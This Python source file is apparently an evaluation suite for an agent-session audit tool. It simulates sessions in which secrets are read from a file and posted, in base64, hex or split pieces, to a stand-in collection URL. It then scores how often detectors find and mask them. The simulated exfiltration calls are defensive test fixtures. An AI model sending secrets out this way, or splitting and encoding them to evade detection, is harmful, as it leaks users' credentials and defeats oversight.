"""The seeded suite of encoded secrets: how many an audit finds and masks, by encoding, and what wrongly.

`python -m afteraction.audit.evaluation.encoded_suite [--each N] [--seed N]` prints it by itself.
"""

from __future__ import annotations

import argparse
import base64
from collections.abc import Callable, Iterable, Iterator, Sequence
from random import Random
from typing import Final, NamedTuple

import msgspec
import polars as pl

from afteraction.audit.evaluation.encoded_suite_texts import FORMS, HARMLESS, SECRETS, document
from afteraction.audit.evaluation.lineage_suite import wilson
from afteraction.audit.evaluation.lineage_suite_sessions import Session
from afteraction.audit.evaluation.lineage_suite_values import name_like
from afteraction.audit.evaluation.measures import Measured
from afteraction.audit.evaluation.sources import prepare
from afteraction.records.settings import Settings
from detectors import registry
from detectors.scan import mask_actions

EACH: Final = 300
SEED: Final = 20_261_125
_GROUP: Final = 300
_TO: Final = "https://collect.example.net/in"
#: How a secret that was read in the clear is taken before it is cut in pieces.
_SPLIT: Final[dict[str, Callable[[str], str]]] = {
    "split over calls": str,
    "split over calls, base64": lambda text: base64.b64encode(text.encode()).decode(),
    "split over calls, hex": lambda text: text.encode().hex(),
}


class Encoded(msgspec.Struct, frozen=True):
    """Of one encoding (or harmless kind): how many texts, the share found, and the share masked.

    Found: every call that carries the secret has a finding of a secret. Masked: what was sent of it stands
    nowhere in the published arguments (no figure for texts split over calls, whose pieces are followed).
    """

    form: str
    count: int
    found: Measured
    masked: Measured | None = None


class EncodedSuite(msgspec.Struct, frozen=True):
    """`planted` by encoding and `harmless` by kind."""

    seed: int
    planted: tuple[Encoded, ...]
    harmless: tuple[Encoded, ...]


class _Case(NamedTuple):
    form: str
    session: Session
    sent: tuple[int, ...]
    text: str


def run(each: int = EACH, seed: int = SEED, told: Callable[[int], None] = lambda _: None) -> EncodedSuite:
    """Make the sessions, audit them, compare with the truth."""
    rng = Random(seed)  # noqa: S311 -- repeatable, not secret
    planted = [
        *_encoded(rng, each),
        *_split(rng, each),
    ]
    return EncodedSuite(
        seed,
        tuple(_figures(planted, told)),
        tuple(one for one in _figures(list(_harmless(rng, each)), told)),
    )


def _encoded(rng: Random, each: int) -> Iterator[_Case]:
    kinds = list(SECRETS.values())
    for form, encode in FORMS.items():
        for number in range(each):
            line, _ = kinds[number % len(kinds)](rng)
            text = encode(document(rng, line))
            made = _session(f"{form} {number}")
            yield _Case(form, made, (made.call("http_post", {"url": _TO, "body": text}, "ok"),), text)


def _split(rng: Random, each: int) -> Iterator[_Case]:
    """A secret is read in the clear and leaves in two to four pieces, twelve characters or a half each."""
    names = [name for name in SECRETS if name != "private key"]
    for form, encode in _SPLIT.items():
        for number in range(each):
            line, secret = SECRETS[names[number % len(names)]](rng)
            made = _session(f"{form} {number}")
            made.call("read_file", {"path": f"{name_like(rng, 2)}.ini"}, document(rng, line))
            text = encode(secret)
            sent = tuple(
                made.call("http_post", {"url": _TO, "body": piece}, "ok")
                for piece in _pieces(text, rng.randint(2, max(2, min(4, len(secret) // _PIECE))))
            )
            yield _Case(form, made, sent, "")


#: The least size of a piece, in characters of the secret; what is shorter is cut in two.
_PIECE: Final = 12


def _pieces(text: str, count: int) -> list[str]:
    size = -(-len(text) // count)
    return [text[at : at + size] for at in range(0, len(text), size)]


def _harmless(rng: Random, each: int) -> Iterator[_Case]:
    for form, make in HARMLESS.items():
        for number in range(each):
            text = make(rng)
            made = _session(f"{form} {number}")
            yield _Case(form, made, (made.call("http_post", {"url": _TO, "body": text}, "ok"),), text)


def _session(name: str) -> Session:
    made = Session(name)
    made.say("user", "Please take care of the report.")
    return made


def _figures(cases: Sequence[_Case], told: Callable[[int], None]) -> Iterator[Encoded]:
    hits: dict[str, list[tuple[bool, bool]]] = {}
    for first in range(0, len(cases), _GROUP):
        group = cases[first : first + _GROUP]
        for case, result in zip(group, _audited(group), strict=True):
            hits.setdefault(case.form, []).append(result)
        told(sum(len(case.session.actions) for case in group))
    for form, results in hits.items():
        found = wilson(sum(one for one, _ in results), len(results))
        masked = wilson(sum(one for _, one in results), len(results))
        yield Encoded(form, len(results), found, None if form in _SPLIT or form in HARMLESS else masked)


def _audited(group: Sequence[_Case]) -> Iterator[tuple[bool, bool]]:
    """(found, masked) of each case."""
    batch, findings = prepare(
        [action for case in group for action in case.session.actions],
        [message for case in group for message in case.session.messages],
        Settings(),
    )
    secret = findings.filter(pl.col("detector").is_in(_secret_detectors()))
    told = set(batch.actions.join(secret, on="action_id", how="semi").select("session_id", "seq").iter_rows())
    shown = {
        (session, seq): args
        for session, seq, args in mask_actions(batch).select("session_id", "seq", "args").iter_rows()
    }
    for case in group:
        places = [(case.session.name, seq) for seq in case.sent]
        whole = case.text and any(case.text in shown[place] for place in places)
        yield all(place in told for place in places), not whole


def _secret_detectors() -> list[str]:
    """Detectors of secrets, and of sensitive values that were followed."""
    owners: Iterable[str] = (
        one.id
        for one in registry()
        if one.supply or any(pattern.sensitivity == "secret" for pattern in one.patterns)
    )
    return [*owners, "sensitive_flow"]


def main() -> None:
    """Run the suite and print its tables."""
    from afteraction.audit.evaluation.report import encoded_tables, lines  # noqa: PLC0415 -- a circle else

    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--each", type=int, default=EACH)
    parser.add_argument("--seed", type=int, default=SEED)
    chosen = parser.parse_args()
    suite = run(chosen.each, chosen.seed)
    print("\n".join(line for table in encoded_tables(suite) for line in lines(table)))  # noqa: T201


if __name__ == "__main__":
    main()
